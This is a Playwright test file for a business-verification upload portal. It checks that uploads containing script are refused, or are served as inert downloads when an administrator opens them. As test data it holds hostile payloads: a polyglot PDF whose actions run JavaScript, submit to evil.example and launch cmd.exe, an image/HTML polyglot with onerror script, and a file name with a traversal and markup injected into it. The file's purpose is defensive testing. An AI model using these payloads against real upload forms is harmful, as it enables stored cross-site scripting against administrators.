// Documents that a stranger sends to have run in the session of the administrator who looks at them.
import { expect, type Page } from '@playwright/test'
import { accounts, openAs } from '../accounts.ts'
import { mayComplain, test } from '../test.ts'

const script = '<script>window.top.ran = true; parent.ran = true; document.title = "ran"</script>'
/** Requests scripts in every way that PDF readers know, and is a page of HTML to a reader that looks for one. */
const hostilePdf = `%PDF-1.7
1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("https://evil.example")) >>
 /AA << /WC << /S /URI /URI (javascript:top.ran=true) >> >> >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA << /O << /S /Launch /F (cmd.exe) >> >> >> endobj
trailer << /Root 1 0 R >>
${script}<svg onload="top.ran=true"></svg>
%%EOF`
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)
/** A picture by its first bytes, with a page behind it. */
const hostilePicture = Buffer.concat([png, Buffer.from(`<html>${script}<img src=x onerror="top.ran=true">`)])

const fields = (business: string) => ({
  publisher: 'lumina',
  tag: 'sim-swap',
  business_name: business,
  business_type: 'CORPORATION',
  registration_number: 'CS202455671',
  tax_number: '010-987-654-000',
  country: 'PH',
  address: '8 Mabini Street, Cebu City 6000',
  contact_name: 'Ana Reyes',
  contact_email: 'ana@isla.example',
  contact_phone: '+639175550120',
  use_case: 'We ask before a loan is paid out.',
  declaration: 'true',
})
const file = (name: string, content: string | Buffer, mimeType: string) => ({
  name,
  mimeType,
  buffer: Buffer.from(content),
})

const submit = (page: Page, business: string, documents: Record<string, ReturnType<typeof file>>) =>
  page.request.post('/portal-api/api/user-subscription/kyb', {
    multipart: { ...fields(business), ...documents },
  })

test('pages and drawings that call themselves documents are refused', async ({ page }) => {
  for (const [content, type] of [
    [`<!doctype html>${script}`, 'text/html'],
    [`<svg xmlns="http://www.w3.org/2000/svg" onload="top.ran=true">${script}</svg>`, 'image/svg+xml'],
    [`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`, 'application/pdf'],
    [` \n${hostilePdf}`, 'application/pdf'],
  ] as const) {
    const response = await submit(page, 'Refused Inc', {
      registration_certificate: file('certificate.pdf', content, type),
      representative_id: file('passport.png', png, 'image/png'),
    })
    const { errors } = await response.json()
    expect([response.status(), errors]).toMatchObject([
      422,
      [{ pointer: '#/registration_certificate', code: 'media_type' }],
    ])
  }
})

test('a hostile PDF is saved and opened nowhere, a hostile picture is drawn and runs nothing', async ({
  page,
  context,
}) => {
  const business = `Hostile ${Date.now()}`
  const sent = await submit(page, business, {
    registration_certificate: file('../../"><img src=x onerror=top.ran=true>.html', hostilePdf, 'text/html'),
    representative_id: file('passport.svg', hostilePicture, 'image/svg+xml'),
  })
  expect(sent.status()).toBe(201)
  const { data } = await sent.json()

  await openAs(page, accounts.admin, `/admin/kyb/${data.kyb_id}`)
  const address = page.url()
  const saving = page.waitForEvent('download')
  await page.getByRole('button', { name: /^Download Certificate/ }).click()
  const saved = await saving
  // Named after its field, whatever its sender called it.
  expect(saved.suggestedFilename()).toBe('registration_certificate.pdf')
  await page.getByRole('button', { name: /^View Identity document/ }).click()
  const picture = page.getByRole('img', { name: /Identity document/ })
  await expect(picture).toBeVisible()
  expect(await picture.getAttribute('src')).toMatch(/^data:image\/png;base64,/)

  expect(page.url()).toBe(address)
  expect(context.pages()).toHaveLength(1)
  expect(page.frames()).toHaveLength(1)
  const traces = await page.evaluate(() => ({
    ran: 'ran' in window,
    embedded: document.querySelectorAll('iframe, object, embed, main svg[onload], [onerror]').length,
  }))
  expect(traces).toEqual({ ran: false, embedded: 0 })
})

test('the address of a document opens nothing: without a token it is refused, with one it is bytes to be saved', async ({
  page,
}) => {
  mayComplain(/status of 401 .*\/kyb\/document\?/)
  const sent = await submit(page, `Hostile ${Date.now()}`, {
    registration_certificate: file('a.html', hostilePdf, 'text/html'),
    representative_id: file('b.png', hostilePicture, 'image/png'),
  })
  const { kyb_id } = (await sent.json()).data
  const path = `/portal-api/api/admin/kyb/document?kyb_id=${kyb_id}&field=registration_certificate`
  await openAs(page, accounts.admin, '/admin/kyb')
  // The cookies of the session come along, and count for nothing.
  expect((await page.goto(path))?.status()).toBe(401)
  const token = (await page.context().cookies()).find(({ name }) => name === 'CON_TOKEN')?.value ?? ''
  const headers = { Authorization: `Bearer ${decodeURIComponent(token)}` }
  const response = await page.request.get(path, { headers })
  expect([response.status(), response.headers()]).toMatchObject([
    200,
    {
      'content-type': 'application/octet-stream',
      'content-disposition': expect.stringMatching(/^attachment; filename="registration_certificate\.pdf"/),
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'cache-control': expect.stringContaining('no-store'),
      'content-security-policy': expect.stringContaining("object-src 'none'"),
    },
  ])
  // As a page would open it that an attacker had lured the administrator to, with all that they may.
  await page.setExtraHTTPHeaders(headers)
  const saving = page.waitForEvent('download')
  await page.goto(path).catch(() => undefined)
  await saving
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
})

test('documents stand beside the answers and stay in sight; on a narrow screen they stand below', async ({
  page,
}) => {
  await openAs(page, accounts.admin, '/admin/kyb/kyb_mara9Bc')
  const answers = page.getByRole('region', { name: 'Business' })
  const documents = page.getByRole('region', { name: 'Documents' })
  const boxes = async () => [await answers.boundingBox(), await documents.boundingBox()]
  await page.setViewportSize({ width: 1201, height: 800 })
  await expect(documents.getByText('Utility-bill.pdf')).toBeVisible()
  let [left, right] = await boxes()
  expect([left?.y, (left?.x ?? 0) + (left?.width ?? 0) <= (right?.x ?? 0)]).toEqual([right?.y, true])
  await page.getByRole('button', { name: 'Reject Phone number' }).scrollIntoViewIfNeeded()
  await expect(documents).toBeInViewport()
  await page.setViewportSize({ width: 1200, height: 800 })
  ;[left, right] = await boxes()
  expect(right?.y).toBeGreaterThan(left?.y ?? 0)
})
